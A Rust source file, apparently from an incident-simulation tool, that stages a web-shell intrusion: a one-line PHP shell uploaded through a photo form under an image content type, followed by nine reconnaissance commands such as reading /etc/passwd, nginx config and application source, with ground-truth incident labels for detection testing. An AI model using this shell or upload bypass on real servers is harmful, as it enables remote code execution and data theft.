//! A page that takes any file, and the program of the intruder that came in through it (ウェブシェル).

use super::ordinary;
use crate::stage::clock::at;
use crate::stage::plan::{Act, Plan, Request, far};
use crate::stage::truth::Declared;
use crate::stage::web::Site;

const BROWSER: &str = "Mozilla/5.0 (Windows NT 10.0; rv:128.0) Gecko/20100101 Firefox/128.0";

/// What is uploaded: runs what the request says. It runs only inside the staged computer.
const SHELL: &str =
    "<?php if (isset($_POST['c'])) { echo '<pre>'; system($_POST['c']); echo '</pre>'; } ?>\n";

pub(super) fn plan() -> Plan {
    let mut plan = Plan::new("webshell", "web05", at(14, 23, 0, 0));
    plan.web = Site { runs_php: true, ..Site::default() };
    for day in 15..=16 {
        ordinary::visits(&mut plan, day, 20);
        ordinary::crawl(&mut plan, day);
        ordinary::photos(&mut plan, day);
    }
    ordinary::work(&mut plan, 15);
    ordinary::cron(&mut plan, 15, &[4, 16]);
    let from = far(31, 77);
    let file = Act::File { path: "/tmp/shell.php".to_owned(), text: SHELL.to_owned() };
    plan.step(at(15, 21, 0, 0), None, file);
    for (second, target) in [(0, "/photo/"), (12, "/photo/upload.php")] {
        plan.ask(at(15, 21, 5, second), Some("web_shell"), Request::get(from, target, BROWSER));
    }
    let mut upload = Request::get(from, "/photo/upload.php", BROWSER);
    upload.method = "POST";
    upload.more =
        ["-F", "photo=@/tmp/shell.php;filename=gazo_0142.php;type=image/jpeg"].map(str::to_owned).to_vec();
    upload.expect = "gazo_0142.php";
    plan.ask(at(15, 21, 6, 2), Some("web_shell"), upload);
    plan.ask(at(15, 21, 6, 20), Some("web_shell"), Request::get(from, "/photo/files/gazo_0142.php", BROWSER));
    let commands = [
        ("id", "www-data"),
        ("uname -a", "Linux"),
        ("cat /etc/passwd", "root:x:0:0:"),
        ("ls -la /srv/www", "index.html"),
        ("cat /etc/nginx/nginx.conf", "server_name"),
        ("ps ax", ""),
        ("find / -name '*.db' 2>/dev/null", "/srv/"),
        ("ls -la /home", ""),
        ("cat /srv/app.py", "USERS"),
    ];
    for (number, (command, expect)) in (0_i64..).zip(commands) {
        let mut request = Request::get(from, "/photo/files/gazo_0142.php", "python-requests/2.31.0");
        request.method = "POST";
        request.more = vec!["--data-urlencode".to_owned(), format!("c={command}")];
        request.expect = expect;
        plan.ask(at(15, 21, 7, 10) + number * 23, Some("web_shell"), request);
    }
    plan.declared = vec![
        Declared::incident("web_shell", "web_shell", "security_hole")
            .also(&["code_execution", "first_seen_access"])
            .notes("gazo_0142.php put in through the form for photographs, then nine commands by POST as www-data"),
    ];
    plan
}
